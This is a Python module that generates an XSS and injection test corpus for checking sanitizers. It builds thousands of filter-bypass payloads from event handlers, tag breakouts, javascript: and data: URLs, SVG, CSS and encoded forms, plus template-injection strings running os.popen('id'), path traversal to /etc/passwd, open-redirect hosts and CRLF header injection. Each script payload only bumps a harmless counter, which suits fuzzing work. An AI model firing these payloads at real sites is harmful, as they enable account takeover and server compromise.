"""Texts that would run something where a page, a mail or a file took them for more than letters.

Put together from parts, each with each that makes sense: what breaks out × what runs × how it is written. Every one of
them, if it ran, would call `HIT`, which a browser can be asked about afterwards.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

HIT = "window.__hit=(window.__hit||0)+1"

EVENTS = {
    "onload": ("svg", "body", "iframe", "img", "link", "object"),
    "onerror": ("img", "video", "audio", "script", "image", "source", "object"),
    "onfocus": ("input", "textarea", "select", "a", "button"),
    "onmouseover": ("b", "a", "div", "span", "marquee", "td"),
    "onclick": ("a", "button", "summary", "label", "area"),
    "ontoggle": ("details", "div"),
    "onanimationstart": ("style", "x", "svg"),
    "onpointerenter": ("p", "li", "math", "option"),
    "onbegin": ("animate", "set", "animatetransform"),
    "onstart": ("marquee",),
    "onbeforetoggle": ("button", "div"),
    "onpageshow": ("body",),
    "oncopy": ("em", "input"),
    "onwheel": ("body", "pre"),
}
HELPS = {
    "img": "src=x",
    "image": "href=x",
    "video": "src=x",
    "audio": "src=x",
    "source": "src=x",
    "script": "src=x",
    "link": "rel=stylesheet href=/robots.txt",
    "object": "data=x",
    "iframe": "src=about:blank",
    "input": "autofocus",
    "textarea": "autofocus",
    "select": "autofocus",
    "a": "href=# tabindex=1 autofocus",
    "button": "autofocus",
    "details": "open",
    "animate": "attributename=x dur=1s",
    "set": "attributename=x dur=1s",
    "animatetransform": "attributename=x dur=1s",
}
"""What lets an event happen by itself."""

BREAKS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</option></select>",
    "</template>",
    "</svg>",
    "</a>",
    "\"'--></style></script></textarea></title>",
    "*/",
)
"""What ends the place a text was put in."""

SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:",
    "view-source:javascript:",
    "feed:javascript:",
    "//javascript:%0a",
    "javascript://%0a",
    "javascript:/*--></a>*/",
)


def every() -> list[str]:
    """Return all of them, none twice, in an order that never changes."""
    kinds: tuple[Callable[[], Iterator[str]], ...] = (
        _elements,
        _breaking_out,
        _scripts,
        _attributes,
        _links,
        _markdown,
        _drawings,
        _styles,
        _templates,
        _encoded,
        _frames,
        _confused,
        _addresses,
    )
    return list(dict.fromkeys(text for kind in kinds for text in kind()))


def _elements() -> Iterator[str]:
    """An element with something that happens to it, in four hands."""
    for event, tags in EVENTS.items():
        for tag in tags:
            help_ = HELPS.get(tag, "")
            yield f"<{tag} {help_} {event}={HIT}>"
            yield f'<{tag.upper()} {help_} {event.upper()} = "{HIT}">x</{tag.upper()}>'
            yield f"<{tag}/{event}='{HIT}'/{help_.replace(' ', '/')}>"
            yield f"<{tag}\n{help_}\x0c{event}\n=\t{HIT}//"


def _breaking_out() -> Iterator[str]:
    """Each way out of where the text stands, and then each of the things that run at once."""
    runs = (
        f"<script>{HIT}</script>",
        f"<img src=x onerror={HIT}>",
        f"<svg onload={HIT}>",
        f"<details open ontoggle={HIT}>",
        f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
        f"<input autofocus onfocus={HIT}>",
        f"<video><source onerror={HIT}>",
        f"<style onload={HIT}></style>",
        f"<math><mi//xlink:href='data:x,<script>{HIT}</script>'>",
    )
    yield from map("".join, product(BREAKS, runs))


def _scripts() -> Iterator[str]:
    """A script, spelled in all the ways a filter forgets, with each thing it may hold."""
    opened = (
        "<script>",
        "<SCRIPT>",
        "<ScRiPt >",
        "<script\n>",
        "<script/x>",
        "<script x='>'>",
        "<script type=module>",
        "<script type=text/javascript>",
        "<scr<script>ipt>",
        "<<script>",
        "<script\x00>",
        "<%73cript>",
        "\u003cscript>",
        "＜script＞",
        "‹script›",
        "<script charset=utf-7>",
        "<svg><script>",
        "<math><script>",
        "<noscript><script>",
        "<table><script>",
    )
    held = (
        HIT,
        f"/*x*/{HIT}//",
        f"eval('{HIT}')",
        f"setTimeout('{HIT}')",
        f"[].map.constructor('{HIT}')()",
        f"top['eval']`{HIT}`",
    )
    closed = ("</script>", "</SCRIPT >", "")
    yield from map("".join, product(opened, held, closed))


def _attributes() -> Iterator[str]:
    """Out of an attribute's value into another one, without any tag."""
    events = ("onmouseover", "onfocus", "onerror", "onclick", "onpointerenter", "onanimationend")
    for quoted, event, end in product(('"', "'", "`", " ", "\u00a0", "\x0c"), events, ("", " autofocus", " x=")):
        yield f"x{quoted} {event}={quoted.strip()}{HIT}{quoted.strip()}{end}"
    for quoted in ('"', "'"):
        yield f"x{quoted} style={quoted}animation-name:x{quoted} onanimationstart={quoted}{HIT}"
        yield f"x{quoted} href={quoted}javascript:{HIT}"
        yield f"x{quoted} hx-get={quoted}/mine{quoted} hx-trigger={quoted}load{quoted} hx-on::load={quoted}{HIT}"
        yield f"x{quoted} hx-vals={quoted}js:{{a:{HIT}}}{quoted} hx-post={quoted}/x{quoted} hx-trigger={quoted}load"
        yield f"x{quoted} data-confirm={quoted}{HIT}{quoted} formaction={quoted}javascript:{HIT}"
        yield f"x{quoted} srcdoc={quoted}&lt;script&gt;{HIT}&lt;/script&gt;"


def _links() -> Iterator[str]:
    """An address that is a script, in each attribute that takes one."""
    places = (
        "<a href='{0}'>x</a>",
        "<form action='{0}'><button>x</button></form>",
        "<button formaction='{0}'>x</button>",
        "<iframe src='{0}'></iframe>",
        "<object data='{0}'></object>",
        "<embed src='{0}'>",
        "<base href='{0}'>",
        "<meta http-equiv=refresh content='0;url={0}'>",
    )
    for place, scheme in product(places, SCHEMES):
        yield place.format(_address(scheme))


def _markdown() -> Iterator[str]:
    """The same in the few marks that people may use."""
    shapes = (
        "[x]({0})",
        "[x](<{0}>)",
        '[x]({0} "t")',
        "![x]({0})",
        "<{0}>",
        "[x]: {0}\n\n[x]",
        "> [x]({0})",
        "- ![x][1]\n\n[1]: {0}",
        "`[x]({0})`",
        "# [x]({0})",
    )
    for shape, scheme in product(shapes, SCHEMES):
        yield shape.format(_address(scheme))
    title = f'x" onmouseover="{HIT}'
    yield from (f"[x](https://e.example '{title}')", f"![{title}](https://e.example/a.png)", f"[{title}](/a)")
    yield from (f"```{title}\n{HIT}\n```", f"    <script>{HIT}</script>", f"**<img src=x onerror={HIT}>**")
    yield from (f"[<img src=x onerror={HIT}>](/a)", f'[x](/a" onclick="{HIT})', f"\\<script>{HIT}\\</script>")


def _drawings() -> Iterator[str]:
    """SVG and MathML."""
    inner = (
        f"<script>{HIT}</script>",
        f"<a xlink:href='javascript:{HIT}'><text y=9>x</text></a>",
        f"<use href='data:image/svg+xml,<svg id=x onload={HIT}/>#x'/>",
        f"<animate attributeName=href values='javascript:{HIT}'/>",
        f"<set attributeName=onload to='{HIT}'/>",
        f"<foreignObject><img src=x onerror={HIT}></foreignObject>",
        f"<desc><![CDATA[</desc><script>{HIT}</script>]]></desc>",
        f"<style><img src='</style><img src=x onerror={HIT}>'>",
        f"<handler ev:event=load>{HIT}</handler>",
        f"<image href=x onerror={HIT} />",
    )
    around = (
        "<svg>{0}</svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'>{0}",
        "<math><annotation-xml encoding='text/html'>{0}",
        "<svg><g onload='" + HIT + "'>{0}</g></svg>",
        "<?xml version='1.0'?><svg>{0}</svg>",
    )
    yield from (shape.format(each) for shape, each in product(around, inner))
    yield f"<!DOCTYPE svg [<!ENTITY x '<script>{HIT}</script>'>]><svg>&x;</svg>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>"


def _styles() -> Iterator[str]:
    """CSS."""
    rules = (
        f"background:url(javascript:{HIT})",
        f"width:expression({HIT})",
        f"behavior:url(#{HIT})",
        f"-moz-binding:url(data:text/xml,{HIT})",
        "position:fixed;inset:0;background:red",
        f"color:red;}}</style><script>{HIT}</script>",
        f"list-style:url('javascript:{HIT}')",
        f"@import 'javascript:{HIT}'",
    )
    around = (
        '<div style="{0}">x</div>',
        "<style>*{{{0}}}</style>",
        "x;{0}",
        "</style><style>*{{{0}}}",
        'x" style="{0}',
        "<link rel=stylesheet href='data:text/css,*{{{0}}}'>",
    )
    yield from (shape.format(rule) for shape, rule in product(around, rules))


def _templates() -> Iterator[str]:
    """What a template engine, on a server or in a browser, would work out."""
    inner = (
        "7*7",
        HIT,
        "config.items()",
        "self.__init__.__globals__",
        f"constructor.constructor('{HIT}')()",
        "request.application",
        "''.__class__.__mro__",
        "cycler.__init__.__globals__.os.popen('id').read()",
    )
    around = (
        "{{{{{0}}}}}",
        "{{%{0}%}}",
        "{{% print({0}) %}}",
        "${{{0}}}",
        "#{{{0}}}",
        "<%={0}%>",
        "{{{{{{{0}}}}}}}",
        "[[{0}]]",
        "%({0})s",
        "{{0.{0}}}",
        "@{{{0}}}",
        "*{{{0}}}",
        "{{#if {0}}}x{{/if}}",
        "<x-if='{0}'>",
    )
    yield from (shape.format(each) for shape, each in product(around, inner))


def _encoded() -> Iterator[str]:
    """Written so that one decoding too many brings it to life."""
    seeds = (f"<script>{HIT}</script>", f"<img src=x onerror={HIT}>", f'"><svg onload={HIT}>', f"javascript:{HIT}")
    ways: tuple[Callable[[str], str], ...] = (
        quote,
        lambda text: quote(quote(text)),
        lambda text: "".join(f"&#{ord(letter)};" for letter in text),
        lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
        lambda text: "".join(f"&#{ord(letter):07d}" for letter in text),
        lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
        lambda text: "".join(f"\\x{ord(letter):02x}" for letter in text),
        lambda text: "".join(f"%u{ord(letter):04x}" for letter in text),
        lambda text: "".join(f"\\{ord(letter):x} " for letter in text),
        lambda text: text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
        lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        lambda text: text.replace("<", "＜").replace(">", "＞").replace('"', "＂"),
        lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda text: text.replace("<", "¼").replace(">", "¾"),
        lambda text: text.replace("s", "ſ").replace("i", "ı"),
        lambda text: text.replace("<", "<\x0b").replace("o", "o\u200b"),
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: text[::-1],
        lambda text: "\u202e" + text[::-1],
        lambda text: text.replace(" ", "\u2028"),
        lambda text: text.replace("<", "%c0%bc").replace(">", "%c0%be"),
    )
    yield from (way(seed) for way, seed in product(ways, seeds))


def _frames() -> Iterator[str]:
    """Foreign documents, and elements that change what is around them."""
    page = f"<script>parent.{HIT}</script>"
    tags = ("iframe", "object", "embed", "frame", "portal", "fencedframe")
    for tag, (name, value) in product(
        tags, (("srcdoc", page), ("src", f"data:text/html,{page}"), ("data", f"data:text/html,{page}"))
    ):
        yield f'<{tag} {name}="{value}"></{tag}>'
    loose = (
        "plaintext",
        "xmp",
        "noembed",
        "noframes",
        "listing",
        "template",
        "textarea",
        "title",
        "select",
        "frameset",
        "dialog open",
        "form",
        "base target=x",
        "marquee",
        "isindex",
        "keygen",
        "bgsound",
        "applet",
        "layer",
        "slot",
    )
    for tag in loose:
        yield f"<{tag}><img src=x onerror={HIT}>"
        yield f"</{tag.split()[0]}><b id=x>"


def _confused() -> Iterator[str]:
    """Halves of markup that a lenient reader completes in its own way."""
    ends = (
        "",
        "<",
        "<!",
        "<!--",
        "</",
        "<?",
        "<![CDATA[",
        "&",
        "&#",
        "&#x",
        "&lt",
        "&#0;",
        "&#x110000;",
        "<a",
        "<a href",
        "<a href=",
        "<a href='",
        '<a href="',
        "\x00<",
        "<\x00",
        "<!-->",
        "<!--->",
        "--!>",
    )
    for end in ends:
        yield f"text{end}"
        yield f"{end}<img src=x onerror={HIT}>"
        yield f"<b>{end}</b onclick={HIT}>"


def _addresses() -> Iterator[str]:
    """What one types where an address of any kind is wanted."""
    for scheme in SCHEMES:
        yield _address(scheme)
    hosts = (
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "https:///evil.example",
        "https://good@evil.example",
        "/%2f/evil.example",
        "/\t/evil.example",
        "///evil.example/..",
        "?next=//evil.example",
        "#<img src=x onerror=1>",
        "../../etc/passwd",
        "file:///etc/passwd",
        "a@b.example\r\nBcc: c@d.example",
        "a@b.example%0d%0aBcc:c@d.example",
        "x\r\nSet-Cookie: a=b",
        "x\r\n\r\n<script>1</script>",
    )
    yield from hosts


def _address(scheme: str) -> str:
    page = f"<script>{HIT}</script>"
    if scheme.endswith("base64,"):
        return scheme + base64.b64encode(page.encode()).decode()
    return scheme + (page if scheme.startswith("data:text") else f"<svg onload={HIT}>" if "svg" in scheme else HIT)
